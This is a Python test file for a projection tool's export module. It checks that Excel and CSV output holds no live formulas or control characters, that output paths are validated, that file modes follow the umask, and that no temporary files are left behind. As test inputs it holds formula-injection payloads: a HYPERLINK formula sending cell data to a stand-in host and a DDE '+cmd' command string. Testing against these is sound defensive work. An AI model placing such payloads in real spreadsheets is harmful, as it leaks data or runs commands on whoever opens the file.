"""Export safety (issue 12 item 5): no live formulas, no control characters, the output path
checked before computing, the umask respected, no temporary files left behind."""

import csv
import os
import subprocess
import sys
import tempfile

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

import project.engine
from project.cli import app
from project.engine import run_projection
from project.export import ExportError, check_output_path, safe_cell, safe_frame, write_result
from project.scenario import apply_overrides, load_preset

runner = CliRunner()
EVIL_TITLE = '=HYPERLINK("https://evil.example/?"&A2,"x")'
EVIL_SOURCES = ["+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "fine"]
LEADS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def evil():
    s = apply_overrides(load_preset("devries-2027"), [f"title={EVIL_TITLE}"])
    s = s.model_copy(update={"sources": EVIL_SOURCES, "title": s.title + "\x01\x07\x1b"})
    return run_projection(s, samples=20, seed=1)


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a\x00b\x1fc\x7f", "abc"), ("\x01=1", "'=1"), ("plain", "plain"), ("a=b", "a=b"),
    (-5.0, -5.0), (3, 3), (None, None),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_numbers_stay_numbers():
    df = pd.DataFrame({"s": ["=x", "-3"], "v": [-1.5, 2.0], "n": [-2, 4]})
    out = safe_frame(df)
    assert list(out["s"]) == ["'=x", "'-3"]
    assert out["v"].tolist() == [-1.5, 2.0] and out["n"].tolist() == [-2, 4]
    assert pd.api.types.is_float_dtype(out["v"]) and pd.api.types.is_integer_dtype(out["n"])


def _xlsx_cells(path):
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                yield ws.title, c


def test_excel_has_no_formula_and_no_control_characters(tmp_path, evil):
    p = write_result(evil, tmp_path / "r.xlsx")
    strings = []
    for sheet, c in _xlsx_cells(p):
        assert c.data_type != "f", f"formula in {sheet}!{c.coordinate}: {c.value}"
        if isinstance(c.value, str):
            strings.append(c.value)
            assert not c.value.startswith(LEADS), f"{sheet}!{c.coordinate}: {c.value!r}"
            assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in c.value)
    assert "'" + EVIL_TITLE in strings
    assert any("'+cmd" in s for s in strings)  # the sources cell joins them; each piece inside is plain text
    meta = pd.read_excel(p, sheet_name="meta").iloc[0]
    assert meta["title"] == "'" + EVIL_TITLE


def test_excel_numbers_are_numbers(tmp_path, evil):
    p = write_result(evil, tmp_path / "r.xlsx")
    ws = openpyxl.load_workbook(p)["data"]
    header = [c.value for c in ws[1]]
    col = header.index("value")
    assert all(isinstance(r[col].value, (int, float)) for r in ws.iter_rows(min_row=2))


@pytest.mark.parametrize("layout", ["long", "wide"])
def test_csv_cells_are_inert(tmp_path, evil, layout):
    p = write_result(evil, tmp_path / "r.csv", layout=layout)
    with open(p, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    for row in rows:
        for cell in row:
            if cell.startswith(LEADS):
                float(cell)  # only a number may start with '-' (none here: values are non-negative)


def test_cli_set_title_formula_is_written_inert(tmp_path):
    out = tmp_path / "r.xlsx"
    res = runner.invoke(app, ["project", "--preset", "devries-2027", "--samples", "0",
                              "--set", f"title={EVIL_TITLE}", "--out", str(out)])
    assert res.exit_code == 0, res.output
    assert not [c.coordinate for _, c in _xlsx_cells(out) if c.data_type == "f"]


# ---------------------------------------------------------------------------
# --out checked before computing: exit 2, one message, no Monte Carlo


def _readonly_dir(tmp_path):
    """A folder this process cannot create files in (root ignores mode bits: use /sys then)."""
    d = tmp_path / "ro"
    d.mkdir()
    d.chmod(0o555)
    try:
        fd, probe = tempfile.mkstemp(dir=d)
    except OSError:
        return d
    os.close(fd)
    os.unlink(probe)
    d.chmod(0o755)
    for alt in ("/sys/kernel", "/sys"):
        try:
            fd, probe = tempfile.mkstemp(dir=alt)
        except OSError:
            return __import__("pathlib").Path(alt)
        os.close(fd)
        os.unlink(probe)
    pytest.skip("no folder this process cannot write to (running as root on writable /sys)")


def _case_path(tmp_path, case):
    if case == "directory":
        (tmp_path / "adir.csv").mkdir()
        return tmp_path / "adir.csv", "is a directory"
    if case == "parent is a file":
        (tmp_path / "afile").write_text("x")
        return tmp_path / "afile" / "out.csv", "is a file, not a folder"
    if case == "grandparent is a file":
        (tmp_path / "afile").write_text("x")
        return tmp_path / "afile" / "sub" / "out.csv", "is a file, not a folder"
    if case == "missing folder":
        return tmp_path / "nope" / "out.csv", "does not exist"
    if case == "read-only folder":
        return _readonly_dir(tmp_path) / "out.csv", "cannot write in folder"
    if case == "unsupported suffix":
        return tmp_path / "out.docx", "unsupported output format"
    raise AssertionError(case)


CASES = ["directory", "parent is a file", "grandparent is a file", "missing folder", "read-only folder",
         "unsupported suffix"]


@pytest.mark.parametrize("case", CASES)
def test_check_output_path(tmp_path, case):
    path, words = _case_path(tmp_path, case)
    with pytest.raises(ExportError, match=words) as e:
        check_output_path(path)
    assert str(path) in str(e.value)


@pytest.mark.parametrize("case", CASES)
def test_cli_checks_out_before_computing(tmp_path, monkeypatch, case):
    path, words = _case_path(tmp_path, case)
    calls = []
    monkeypatch.setattr(project.engine, "run_projection", lambda *a, **k: calls.append(1))
    res = runner.invoke(app, ["project", "--preset", "reference", "--samples", "100000", "--out", str(path)])
    assert res.exit_code == 2, res.output
    assert calls == [], "the projection ran before --out was checked"
    err = [line for line in res.output.splitlines() if line.strip()]
    assert err[0].startswith("error: --out") and words in " ".join(res.output.split())
    assert "Traceback" not in res.output


def test_cli_write_failure_is_one_message(tmp_path, monkeypatch):
    def boom(self, *a, **k):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", boom)
    res = runner.invoke(app, ["project", "--preset", "devries-2027", "--samples", "0", "--out", str(tmp_path / "r.csv")])
    assert res.exit_code == 2 and "No space left on device" in res.output and "Traceback" not in res.output
    assert list(tmp_path.iterdir()) == []


# ---------------------------------------------------------------------------
# umask and temporary files


@pytest.mark.parametrize("mask,mode", [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
def test_new_file_mode_follows_umask(tmp_path, evil, mask, mode):
    old = os.umask(mask)
    try:
        p = write_result(evil, tmp_path / "r.csv")
    finally:
        os.umask(old)
    assert p.stat().st_mode & 0o777 == mode


def test_failure_in_every_format_leaves_no_temp_file(tmp_path, evil, monkeypatch):
    def boom(*a, **k):
        raise RuntimeError("interrupted")

    monkeypatch.setattr(os, "replace", boom)
    for suffix in (".csv", ".xlsx", ".parquet", ".json"):
        with pytest.raises(RuntimeError):
            write_result(evil, tmp_path / f"r{suffix}")
    assert list(tmp_path.iterdir()) == []


def test_stale_temp_file_of_a_killed_writer_is_removed(tmp_path, evil):
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                          text=True, check=True)
    stale = tmp_path / f".r.csv.{int(dead.stdout)}.abc123_x.tmp"
    stale.write_text("half")
    live = tmp_path / f".r.csv.{os.getppid()}.def456.tmp"  # a live process may still be writing it
    live.write_text("busy")
    other = tmp_path / ".q.csv.1.zzz.tmp"  # another target's file is not ours to touch
    other.write_text("other")
    write_result(evil, tmp_path / "r.csv")
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["r.csv", live.name, other.name])


def _script(name):
    import importlib.util
    from pathlib import Path

    path = Path(__file__).resolve().parents[1] / "scripts" / f"{name}.py"
    spec = importlib.util.spec_from_file_location(name, path)
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod


def test_scripts_write_data_files_atomically_with_the_umask_mode(tmp_path, monkeypatch):
    """scripts/ write their data files through export.atomic_write: a new file gets the mode the
    umask gives (derive_offsite_water left 0600), and a failure leaves the old file alone."""
    water = _script("derive_offsite_water")
    rows = [{"region": "USA", "l_per_kwh": 1.5}]
    old = os.umask(0o022)
    try:
        water.write(rows, tmp_path / "w.csv")
    finally:
        os.umask(old)
    assert (tmp_path / "w.csv").stat().st_mode & 0o777 == 0o644
    assert (tmp_path / "w.csv").read_text() == "region,l_per_kwh\nUSA,1.5\n"

    def boom(*a, **k):
        raise RuntimeError("interrupted")

    monkeypatch.setattr(os, "replace", boom)
    with pytest.raises(RuntimeError):
        water.write([{"region": "EUR", "l_per_kwh": 9.0}], tmp_path / "w.csv")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["w.csv"]
    assert "USA" in (tmp_path / "w.csv").read_text()


def test_the_ecologits_crosscheck_script_uses_the_products_token_count():
    from project import crosschecks

    assert _script("crosscheck_ecologits").OUTPUT_TOKENS is crosschecks.OUTPUT_TOKENS
